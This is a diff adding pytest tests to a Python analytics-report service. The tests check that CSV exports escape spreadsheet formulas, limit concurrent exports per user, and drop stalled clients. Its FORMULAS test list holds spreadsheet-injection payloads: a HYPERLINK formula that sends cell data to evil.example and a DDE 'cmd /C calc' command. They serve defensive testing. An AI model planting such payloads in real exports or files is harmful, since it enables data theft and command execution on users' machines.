@@ -6,10 +6,13 @@ import asyncio
 import csv
 import io
 import json
+import logging
+import socket
 import uuid
 from dataclasses import replace
 from datetime import date, datetime
 from decimal import Decimal
+from urllib.parse import urlencode
 
 import aiohttp
 import pytest
@@ -18,6 +21,7 @@ from ga4sync.reports import BUILTIN_REPORTS, ReportSpec
 from ga4sync.store.properties import upsert_property
 from ga4sync.store.report_tables import ensure_report_tables, table_name
 from ga4sync.web.app import create_app
+from ga4sync.web.common import ROWS
 
 from ..webtools import ADMIN, ORIGIN, bearer
 
@@ -449,14 +453,18 @@ async def test_exports_at_once_are_bounded_and_json_pages_still_answer(api, pool
     ref = await upsert_property(pool, ADMIN, "5091")
     await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
     allowed = runtime.pool.get_max_size() // 2
+    # users who each stay within their own share (EXPORTS_PER_USER), sharing the property
+    users = [uuid.uuid4() for _ in range(allowed + 1)]
+    for user in users:
+        await upsert_property(pool, user, "5091")
     params = {"property_id": "5091", "format": "csv"}
     streaming = []
-    for _ in range(allowed):
-        response = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(ADMIN))
+    for user in users[:allowed]:
+        response = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(user))
         assert response.status == 200
         await response.content.readany()
         streaming.append(response)
-    busy = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(ADMIN))
+    busy = await api.get("/v1/reports/plans/rows", params=params, headers=bearer(users[-1]))
     assert busy.status == 503 and busy.headers["Retry-After"]
     assert (await busy.json())["error"] == "exports_busy"
     page = await api.get(
@@ -475,3 +483,244 @@ async def test_exports_at_once_are_bounded_and_json_pages_still_answer(api, pool
     again.close()
     for response in streaming:
         response.close()
+
+
+# What a visitor can type into a page path, a source or a campaign: each starts a
+# formula in Excel, LibreOffice or Google Sheets, or (tab, carriage return) hides one.
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+# Values that only contain one of those characters later, or already start with '.
+HARMLESS = ["a=b", "/x?q=-1", "'quoted", "", "Pro"]
+
+
+async def test_csv_neutralises_formulas_in_dimension_values_only(api, pool):
+    ref = await upsert_property(pool, ADMIN, "5101")
+    values = FORMULAS + HARMLESS
+    await pool.execute(
+        f"""insert into {table_name(PLANS.key)}
+            (property_ref, date, dimension_key, custom_event_plan, session_source,
+             sessions, bounce_rate, custom_event_revenue)
+            select $1, date '2026-03-01', md5(n::text)::uuid, v, '-' || v, -n, -0.5, -1.25
+            from unnest($2::text[]) with ordinality as u(v, n)""",
+        ref,
+        values,
+    )
+    url, headers = "/v1/reports/plans/rows", bearer(ADMIN)
+    params = {"property_id": "5101", "format": "csv"}
+    page = await api.get(url, params={"property_id": "5101"}, headers=headers)
+    rows = json_texts(await page.text())
+    # JSON keeps every value exactly
+    assert sorted(r["custom_event_plan"] for r in rows) == sorted(values)
+    assert {r["sessions"] for r in rows} == {str(-n) for n in range(1, len(values) + 1)}
+
+    escaped = parse_csv(await (await api.get(url, params=params, headers=headers)).text())
+    assert escaped[0] == COLUMNS
+    assert len(escaped) == len(rows) + 1
+    for line, row in zip(escaped[1:], rows, strict=True):
+        cells = dict(zip(COLUMNS, line, strict=True))
+        for column in ("custom_event_plan", "session_source"):
+            value = row[column]
+            dangerous = value[:1] in ("=", "+", "-", "@", "\t", "\r")
+            assert cells[column] == ("'" + value if dangerous else value), (column, value)
+        # numbers stay numbers, negative ones included; dates and ids are untouched
+        for column in ("property_id", "date", "sessions", "bounce_rate", "custom_event_revenue"):
+            assert cells[column] == str(row[column]), column
+        assert cells["sessions"].startswith("-") and cells["bounce_rate"] == "-0.5"
+    plans = {line[2] for line in escaped[1:]}
+    assert plans == {"'" + v for v in FORMULAS} | set(HARMLESS)
+    # every source starts with '-': all of them are neutralised
+    assert {line[3] for line in escaped[1:]} == {"'-" + v for v in values}
+
+    # Programs that read the file ask for the values exactly as stored.
+    exact_response = await api.get(url, params={**params, "csv_escape": "false"}, headers=headers)
+    exact = parse_csv(await exact_response.text())
+    for line, row in zip(exact[1:], rows, strict=True):
+        assert line == ["" if row[c] is None else str(row[c]) for c in COLUMNS]
+    explicit = await api.get(url, params={**params, "csv_escape": "true"}, headers=headers)
+    assert parse_csv(await explicit.text()) == escaped
+    # an Accept header asking for CSV is escaped the same way
+    by_accept = await api.get(
+        url, params={"property_id": "5101"}, headers={**headers, "Accept": "text/csv"}
+    )
+    assert parse_csv(await by_accept.text()) == escaped
+
+    for bad in ("maybe", "True", "0", ""):
+        response = await api.get(url, params={**params, "csv_escape": bad}, headers=headers)
+        body = await response.json()
+        assert (response.status, body["error"]) == (400, "invalid_csv_escape"), bad
+
+
+class SlowClient:
+    """A real HTTP/1.1 client on its own socket that reads only when told to: with a
+    small receive buffer and nothing read, the server's writes block as they would for
+    a download paused in a browser or a client on a slow link."""
+
+    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self.reader, self.writer = reader, writer
+        self.received = b""
+
+    @classmethod
+    async def get(cls, api, path: str, headers: dict[str, str]) -> SlowClient:
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        sock.setblocking(False)
+        await asyncio.get_running_loop().sock_connect(sock, (api.host, api.port))
+        reader, writer = await asyncio.open_connection(sock=sock, limit=4096)
+        lines = [f"GET {path} HTTP/1.1", f"Host: {api.host}:{api.port}", "Connection: close"]
+        lines += [f"{name}: {value}" for name, value in headers.items()]
+        writer.write(("\r\n".join(lines) + "\r\n\r\n").encode())
+        await writer.drain()
+        client = cls(reader, writer)
+        await client.read(1)  # the status line and the first bytes are here
+        return client
+
+    @property
+    def status(self) -> int:
+        return int(self.received.split(b" ", 2)[1])
+
+    async def read(self, at_least: int) -> int:
+        """Read until ``at_least`` more bytes came or the server closed; how many came."""
+        got = 0
+        while got < at_least:
+            try:
+                chunk = await self.reader.read(65536)
+            except ConnectionError:
+                return got
+            if not chunk:
+                return got
+            self.received += chunk
+            got += len(chunk)
+        return got
+
+    async def read_to_end(self, timeout_s: float = 60.0) -> bytes:
+        async with asyncio.timeout(timeout_s):
+            while await self.read(1 << 20):
+                pass
+        return self.received
+
+    def close(self) -> None:
+        self.writer.close()
+
+
+def export_path(property_id: str, **query: str) -> str:
+    return "/v1/reports/plans/rows?" + urlencode({"property_id": property_id, **query})
+
+
+@pytest.fixture
+async def slow_api(aiohttp_client, runtime, web_settings, pool):
+    """The rows API with a one-second idle timeout and one export per user."""
+    async with pool.acquire() as conn:
+        await ensure_report_tables(conn, [*BUILTIN_REPORTS, PLANS])
+    settings = replace(
+        web_settings,
+        reports=(*BUILTIN_REPORTS, PLANS),
+        export_idle_timeout_s=1.0,
+        exports_per_user=1,
+    )
+    return await aiohttp_client(create_app(settings, runtime=runtime))
+
+
+async def test_one_user_streams_at_most_exports_per_user_at_once(api, pool):
+    alice, bob = uuid.uuid4(), uuid.uuid4()
+    ref = await upsert_property(pool, alice, "5111")
+    await upsert_property(pool, bob, "5111")
+    await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
+    params = {"property_id": "5111", "format": "csv"}
+    url = "/v1/reports/plans/rows"
+    streaming = []
+    try:
+        for _ in range(2):  # EXPORTS_PER_USER's default
+            response = await api.get(url, params=params, headers=bearer(alice))
+            streaming.append(response)
+            assert response.status == 200
+            await response.content.readany()
+        async with api.get(url, params=params, headers=bearer(alice)) as third:
+            assert third.status == 429 and third.content_type == "application/json"
+            body = await third.json()
+            assert body["error"] == "too_many_exports" and "at most 2" in body["message"]
+            assert third.headers["Retry-After"]
+        # Alice's pages still answer, and Bob exports while Alice holds her two.
+        page = await api.get(
+            url, params={"property_id": "5111", "limit": "2"}, headers=bearer(alice)
+        )
+        assert page.status == 200
+        async with api.get(url, params=params, headers=bearer(bob)) as theirs:
+            assert theirs.status == 200
+        streaming.pop().close()
+        for _ in range(100):
+            if len(await copies_running(pool)) < 2:
+                break
+            await asyncio.sleep(0.1)
+        async with api.get(url, params=params, headers=bearer(alice)) as again:
+            assert again.status == 200
+    finally:
+        for response in streaming:
+            response.close()
+
+
+async def test_a_client_that_stops_reading_loses_its_export_and_slot(slow_api, pool, caplog):
+    user = uuid.uuid4()
+    ref = await upsert_property(pool, user, "5121")
+    await fill(pool, ref, days=100, per_day=LARGE_ROWS // 100, pad=PAD)
+    caplog.set_level(logging.INFO, logger="ga4sync.web.rows")
+    rows = slow_api.server.app[ROWS]
+    stalled = await SlowClient.get(slow_api, export_path("5121", format="csv"), bearer(user))
+    try:
+        await _stall_and_recover(slow_api, pool, caplog, stalled, rows, user)
+    finally:
+        stalled.close()
+
+
+async def _stall_and_recover(slow_api, pool, caplog, stalled, rows, user) -> None:
+    assert stalled.status == 200
+    assert await copies_running(pool)
+    # The export waits for the client, holding the user's one slot ...
+    await asyncio.sleep(0.3)
+    async with slow_api.get(
+        "/v1/reports/plans/rows",
+        params={"property_id": "5121", "format": "csv"},
+        headers=bearer(user),
+    ) as busy:
+        assert busy.status == 429
+    # ... until the client has read nothing for the idle timeout: then the export ends,
+    # its database connection and its slot are freed.
+    for _ in range(100):
+        if not await copies_running(pool) and rows.exports_running(user) == 0:
+            break
+        await asyncio.sleep(0.1)
+    assert await copies_running(pool) == [] and rows.exports_running() == 0
+    assert any("read nothing for 1 s" in r.getMessage() for r in caplog.records)
+    # What the client reads afterwards is an unfinished transfer, never a whole file.
+    received = await stalled.read_to_end()
+    assert not received.endswith(b"\r\n0\r\n\r\n")
+    async with slow_api.get(
+        "/v1/reports/plans/rows",
+        params={"property_id": "5121", "format": "csv"},
+        headers=bearer(user),
+    ) as again:
+        assert again.status == 200
+        assert len(await again.read()) > 40_000_000
+
+
+async def test_a_slow_client_that_keeps_reading_gets_the_whole_export(slow_api, pool):
+    user = uuid.uuid4()
+    ref = await upsert_property(pool, user, "5131")
+    await fill(pool, ref, days=10, per_day=400, pad=PAD)  # about 1 MB
+    started = asyncio.get_running_loop().time()
+    slow = await SlowClient.get(slow_api, export_path("5131", format="csv"), bearer(user))
+    try:
+        # never a second without reading, yet longer than the idle timeout in all
+        async with asyncio.timeout(60):
+            while await slow.read(128 * 1024):
+                await asyncio.sleep(0.25)
+    finally:
+        slow.close()
+    assert asyncio.get_running_loop().time() - started > 1.5
+    assert slow.received.endswith(b"\r\n0\r\n\r\n")
+    assert slow.received.count(b"\n") > 4000
